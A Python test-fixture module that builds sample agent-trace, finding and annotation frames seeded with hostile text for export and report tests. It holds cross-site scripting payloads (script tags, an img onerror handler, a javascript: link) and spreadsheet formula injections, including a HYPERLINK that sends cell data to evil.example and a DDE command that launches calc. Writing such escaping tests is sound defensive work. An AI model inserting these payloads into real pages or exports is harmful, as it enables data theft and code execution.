"""Small hand-built frames (with hostile text) shared by the export and report tests."""

from __future__ import annotations

import polars as pl

from analyzer.analysis.result import RUN_COLUMNS, STEP_VALUE_COLUMNS, AnalysisResult
from analyzer.frames import (
    ANNOTATION_COLUMNS,
    FINDING_COLUMNS,
    STEP_COLUMNS,
    TRACE_COLUMNS,
    frame_from_rows,
)

SCRIPT = "<script>document.title='PWNED'</script>"
IMG = '<img src=x onerror="document.title=\'PWNED\'">'
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "@SUM(A1:A9)", "-cmd|' /C calc'!A0",
            "\t=1+1", "\r=2+2"]


def hostile_frames() -> tuple[pl.DataFrame, pl.DataFrame, AnalysisResult, pl.DataFrame]:
    """Three runs: f1 failed (hostile text everywhere), f2 failed, s1 passed."""
    traces = frame_from_rows([
        {"trace_id": "f1", "native_id": "task-1", "model": f"gpt {SCRIPT}", "outcome": "failure", "n_steps": 6,
         "task": f"{FORMULAS[0]} {SCRIPT} [click](javascript:alert(1)) ![t](http://evil.example/t.png)",
         "score": -0.5, "source_file": "runs/f1.json", "record": "$", "framework": "react"},
        {"trace_id": "f2", "native_id": "task-2", "model": "claude", "outcome": "failure", "n_steps": 4,
         "task": FORMULAS[1], "score": 0.0},
        {"trace_id": "s1", "native_id": "task-3", "model": "claude", "outcome": "success", "n_steps": 3,
         "task": FORMULAS[2], "score": 1.0},
    ], TRACE_COLUMNS)
    texts = {
        "f1": ["Plan the work.", f"Calling the tool {IMG}", "```\n</pre><script>alert(1)</script>\n```",
               f"{SCRIPT} and {IMG}", FORMULAS[3], "# Heading\n- list\n| a | b |"],
        "f2": ["a", "b", "c", "d"],
        "s1": ["x", "y", "z"],
    }
    steps = frame_from_rows([
        {"trace_id": t, "step": i, "agent": "coder" if i % 2 else "planner", "role": "assistant",
         "kind": "tool_call" if i == 2 else "message", "text": text,
         "tool_name": "bash" if i == 2 else None, "tool_args": '{"cmd": "<b>ls</b>"}' if i == 2 else None,
         "is_error": t == "f1" and i == 4, "error_text": IMG if t == "f1" and i == 4 else None}
        for t, ts in texts.items() for i, text in enumerate(ts)
    ], STEP_COLUMNS)
    runs = frame_from_rows([
        {"trace_id": "f1", "decisive_step": 3, "decisive_agent": "coder", "category": "hallucination",
         "confidence": 0.71, "top_steps": "3,4,1,0", "top_scores": "0.7,0.2,0.05,0.05",
         "rationale": f"Invented output {SCRIPT}", "min_value": 0.1, "largest_drop": 0.5,
         "largest_drop_step": 3, "value_estimator": "cheap", "n_findings": 2},
        {"trace_id": "f2", "decisive_step": 1, "decisive_agent": "coder", "category": "repeated_action",
         "confidence": 0.4, "top_steps": "1", "value_estimator": "cheap", "n_findings": 0,
         "judge_model": "tiny-judge@0123"},
        {"trace_id": "s1", "value_estimator": "cheap"},
    ], RUN_COLUMNS)
    values = {"f1": [0.9, 0.85, 0.8, 0.3, 0.2, 0.1], "f2": [0.7, 0.4, 0.4, 0.3], "s1": [0.9, 0.9, 0.95]}
    step_values = frame_from_rows([
        {"trace_id": t, "step": i, "value": v, "drop": max(0.0, (vs[i - 1] if i else v) - v), "alignment": 0.5,
         "findings": "hallucination" if (t, i) == ("f1", 3) else None, "value_estimator": "cheap"}
        for t, vs in values.items() for i, v in enumerate(vs)
    ], STEP_VALUE_COLUMNS)
    findings = frame_from_rows([
        {"trace_id": "f1", "step": 3, "agent": "coder", "category": "hallucination", "score": 0.8,
         "evidence_quote": IMG, "rationale": f"claims {SCRIPT}", "source": "hallucination", "status": "suggested"},
        {"trace_id": "f1", "step": 4, "agent": "planner", "category": "failed_recovery", "score": 0.4,
         "evidence_quote": FORMULAS[4], "rationale": "=cmd()", "source": "failed_recovery", "status": "suggested"},
    ], FINDING_COLUMNS)
    result = AnalysisResult(runs=runs, step_values=step_values, findings=findings)
    annotations = frame_from_rows([
        {"trace_id": "f1", "step": 2, "category": "planning_error", "status": "decisive",
         "tags": f"needs-review,{FORMULAS[2]}", "note": f"Analyst note {SCRIPT} {IMG}", "author": "mei",
         "timestamp": "2026-01-01T10:00:00"},
        {"trace_id": "f2", "step": None, "category": None, "status": "accepted", "tags": "flaky-env",
         "note": "=1+2 run-level note", "author": "bo", "timestamp": "2026-01-01T10:01:00"},
    ], ANNOTATION_COLUMNS)
    return traces, steps, result, annotations
